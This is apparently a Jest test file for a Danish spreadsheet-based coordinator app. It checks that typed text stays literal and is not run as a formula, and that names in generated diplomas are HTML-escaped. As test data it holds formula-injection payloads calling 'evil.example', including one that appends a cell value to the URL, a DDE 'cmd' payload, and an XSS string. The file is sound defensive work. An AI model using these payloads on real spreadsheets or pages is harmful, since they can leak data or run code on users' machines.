// Formula injection and markup in what the coordinator types: every text field that reaches a
// cell is stored as literal text (getValues gives exactly what was typed, getFormulas ''), a
// phone keeps its '+45', and generated documents hold names only as text (the emulator's HTML
// rendering of a diploma escapes markup; the report holds no names at all).
import { harness, type Harness } from '../helpers/harness';
import { completedCohort } from '../helpers/reliability';
import { renderDocumentHtml } from '../../dev/emulator/docHtml';

type Emu = Harness['emu'];

/** Payloads a spreadsheet would take for a formula, a number, a date or a boolean. */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?q="&A1;"klik her")',
  '=IMPORTXML("https://evil.example";"//a")',
  '+SUM(1;2)',
  '-2+3',
  '@SUM(A1:A2)',
  "'apostrof først",
  '0045 12 34 56 78',
  '12-06-2026',
  '1/2',
  'TRUE',
  '50%',
  '1e5',
];
/** Leading tab / CR: trimmed away by design (whitespace around a value is never kept); what is left stays literal. */
const WHITESPACE_LED = ['\t=1+1', '\r=cmd|" /C calc"!A0', '\r\n@SUM(1)'];

function column(emu: Emu, sheet: string, header: string): { values: unknown[]; formulas: string[] } {
  const values = emu.sheetValues(sheet);
  const i = values[0].map(String).indexOf(header);
  if (i < 0) throw new Error(`no column ${header} in ${sheet}`);
  return {
    values: values.slice(1).map((r) => r[i]),
    formulas: emu
      .sheetFormulas(sheet)
      .slice(1)
      .map((r) => r[i]),
  };
}

/** A name must have letters: each payload with a name-like tail. */
const asName = (p: string) => (/\p{L}/u.test(p) ? p : `${p} Amal`);

describe('formula injection: text is stored and read back literally', () => {
  let h: Harness;
  beforeEach(() => {
    h = harness({ today: '2026-01-15' });
    h.api.setupWorkbook();
  });

  it.each(PAYLOADS.map((p) => [p]))('Personer text fields keep %j exactly', (payload) => {
    const name = asName(payload);
    const { id } = h.api.addPerson({
      name,
      area: payload,
      source: payload,
      notes: payload,
      languages: payload,
      consentDate: '2026-01-10',
    });
    const last = (header: string) => {
      const c = column(h.emu, 'Personer', header);
      return { value: c.values[c.values.length - 1], formula: c.formulas[c.formulas.length - 1] };
    };
    expect(last('Navn')).toEqual({ value: name, formula: '' });
    for (const header of ['Boligområde', 'Kilde', 'Noter', 'Sprog'])
      expect([header, last(header)]).toEqual([header, { value: payload, formula: '' }]);
    // And through the API as well.
    const p = h.api.listPersons().find((x) => x.id === id)!;
    expect([p.name, p.area, p.source, p.notes, p.languages]).toEqual([
      name,
      payload,
      payload,
      payload,
      payload,
    ]);
    // Her name is copied to Fremmøde when she is admitted: literal there too.
    h.api.setPersonStatus(id, 'Optaget');
    const att = column(h.emu, 'Fremmøde', 'Navn');
    expect(att.values[att.values.length - 1]).toBe(name);
    expect(att.formulas[att.formulas.length - 1]).toBe('');
  });

  it.each(WHITESPACE_LED.map((p) => [p]))(
    'text led by tab/CR %j is trimmed, then stored literally',
    (payload) => {
      h.api.addPerson({ name: `${payload} Amal`, notes: payload, area: payload });
      const stripped = payload.replace(/^\s+/, '');
      expect(column(h.emu, 'Personer', 'Noter').values.pop()).toBe(stripped);
      expect(column(h.emu, 'Personer', 'Boligområde').values.pop()).toBe(stripped);
      expect(column(h.emu, 'Personer', 'Navn').values.pop()).toBe(`${stripped} Amal`);
      for (const header of ['Navn', 'Noter', 'Boligområde'])
        expect(column(h.emu, 'Personer', header).formulas.pop()).toBe('');
    },
  );

  it('keeps phones with +45 and leading zeros, and an e-mail starting with = or @-like text', () => {
    const phones = ['+45 12 34 56 78', '+4512345678', '0045 12345678', '-12 34 56 78', '(+45) 12-34-56-78'];
    for (const phone of phones) h.api.addPerson({ name: 'Amal', phone, email: '=a+b@example.dk' });
    const c = column(h.emu, 'Personer', 'Telefon');
    expect(c.values).toEqual(phones);
    expect(c.formulas.every((f) => f === '')).toBe(true);
    const e = column(h.emu, 'Personer', 'E-mail');
    expect(e.values.every((v) => v === '=a+b@example.dk')).toBe(true);
    expect(e.formulas.every((f) => f === '')).toBe(true);
    expect(h.api.listPersons().map((p) => p.phone)).toEqual(phones);
  });

  it.each(PAYLOADS.map((p) => [p]))('Udgifter description and receipt keep %j exactly', (payload) => {
    const { row } = h.api.addExpense({
      date: '2026-01-10',
      line: 'Administration',
      amount: 12.5,
      description: payload,
      receipt: payload.slice(0, 40),
    });
    const values = h.emu.sheetValues('Udgifter');
    const formulas = h.emu.sheetFormulas('Udgifter');
    const header = values[0].map(String);
    for (const [col, want] of [
      ['Beskrivelse', payload],
      ['Bilag', payload.slice(0, 40)],
    ] as const) {
      expect(values[row - 1][header.indexOf(col)]).toBe(want);
      expect(formulas[row - 1][header.indexOf(col)]).toBe('');
    }
  });

  it('keeps settings text that reaches a sheet (the cohort name in Oversigt) literal', () => {
    h.api.saveSettings({ cohortName: '=HYPERLINK("https://evil.example";"Hold")' });
    h.api.refreshOverview();
    const flat = h.emu.sheetValues('Oversigt').flat().map(String);
    expect(flat.some((v) => v.includes('=HYPERLINK("https://evil.example";"Hold")'))).toBe(true);
    expect(
      h.emu
        .sheetFormulas('Oversigt')
        .flat()
        .filter((f) => /HYPERLINK|evil/.test(f)),
    ).toEqual([]);
  });

  it('setTimelineStatus takes only a status from the list, never free text', () => {
    expect(() => h.api.setTimelineStatus(2, '=1+1')).toThrow(/findes ikke/);
    expect(
      h.emu
        .sheetFormulas('Tidsplan')
        .flat()
        .filter((f) => f !== ''),
    ).toEqual([]);
  });
});

describe('markup in names: generated documents hold it as text', () => {
  const XSS = '<img src=x onerror=alert(1)>';

  it('the diploma Doc holds the name as plain text and its HTML rendering escapes it', () => {
    const h = harness({ today: '2026-01-15' });
    h.api.setupWorkbook();
    completedCohort(h.api, [XSS, 'Hodan <b>fed</b>']);
    const r = h.api.generateDiplomas({ batchSize: 10 });
    expect(r.created).toBe(2);
    const docs = h.emu.drive
      .files()
      .filter(
        (f) =>
          f.name.startsWith('Diplom - ') &&
          f.mimeType === 'application/vnd.google-apps.document' &&
          !f.trashed,
      );
    expect(docs.map((d) => d.name).sort()).toEqual(
      [`Diplom - ${XSS} - Bydelsmødre`, 'Diplom - Hodan <b>fed</b> - Bydelsmødre'].sort(),
    );
    const doc = docs.find((d) => d.name.includes('<img'))!;
    expect(h.emu.drive.textOf(doc.id)).toContain(XSS);
    const html = renderDocumentHtml(h.emu.drive.document(doc.id));
    expect(html).not.toContain('<img');
    expect(html).not.toMatch(/<[^>]*onerror/);
    expect(html).toContain('&#60;img src=x onerror=alert(1)&#62;');
  });

  it('the report holds no name at all (counts and money only)', () => {
    const h = harness({ today: '2026-01-15' });
    h.api.setupWorkbook();
    completedCohort(h.api, [XSS, 'Ørkenrose Hansen']);
    const { url } = h.api.createReport();
    const id = /\/d\/([^/]+)/.exec(url)![1];
    const text = h.emu.drive.textOf(id);
    expect(text.length).toBeGreaterThan(100);
    expect(text).not.toContain('<img');
    expect(text).not.toContain('Ørkenrose');
    expect(renderDocumentHtml(h.emu.drive.document(id))).not.toContain('<img');
  });
});
